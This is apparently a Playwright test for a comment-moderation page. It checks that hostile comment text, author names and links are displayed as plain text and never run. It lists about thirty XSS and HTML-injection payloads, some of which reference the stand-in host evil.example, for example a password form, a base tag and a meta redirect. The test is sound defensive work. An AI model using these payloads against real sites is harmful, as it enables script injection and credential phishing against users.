"""What commenters write is shown and never run."""

from collections.abc import Callable

from playwright.sync_api import Page

from service.domain.comment import Author, Thread
from service.store.rows import CommentRow
from tests.browser.stage import WITHOUT_HIDDEN, Stage

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1) id=x>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/y)'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=/logout hx-trigger=load></div>",
    "<div hx-on:click=alert(1) hx-on::load=alert(1)></div>",
    "<div hx-swap-oob=true id=actions>gone</div>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</div></article><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "javascript:alert(1)//http://x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u2066\u2067\u200f <b>x</b>",
    "Z̸̢̛͎̺̱̲̳͍͖̤̬͓̼̹̞̙̥̯̲̫͙̪̓͆̀͊̇̈́̒̎͑̕͝a" * 40,
    "W" * 3_000,
    "\u0007\u001b[31mred",
    "😀" * 500,
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover=alert(1)',
    "//evil.example",
)


def test_hostile_texts_names_and_addresses_run_nothing(
    stage: Stage, queued: Callable[..., CommentRow], desk: Callable[..., Page]
) -> None:
    """Run: a dialog, a request to elsewhere, or a complaint of the content security policy; the `desk` fixture minds them."""
    comments = [
        queued(
            risk=2 - number / 100,
            text=text,
            author=Author(f"u{number}", text[:200], f"{text[:100]}@x", "192.0.2.1"),
            thread=Thread(text[:200], URLS[number % len(URLS)], text[:500]),
            url=URLS[(number + 1) % len(URLS)],
        )
        for number, text in enumerate(HOSTILE)
    ]
    page = desk(viewport={"width": 360, "height": 780})
    for comment in comments:
        card = page.locator("#hand .card:not([hidden])")
        assert card.get_attribute("data-comment") == comment.id
        text = card.locator(".text")
        assert text.evaluate(WITHOUT_HIDDEN) == comment.text
        assert set(text.evaluate("(e) => [...e.querySelectorAll('*')].map((one) => one.localName)")) <= {"mark"}
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        page.keyboard.press("a")
        page.wait_for_selector("#hand .card:not([hidden]), #clear:not([hidden])")
    paths = [f"comments/{comment.id}" for comment in comments] + [
        f"authors/{comment.author.id}" for comment in comments[::3]
    ]
    for path in paths:
        page.goto(f"{stage.url}/desk/{path}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, path
    assert page.url.startswith(stage.url)
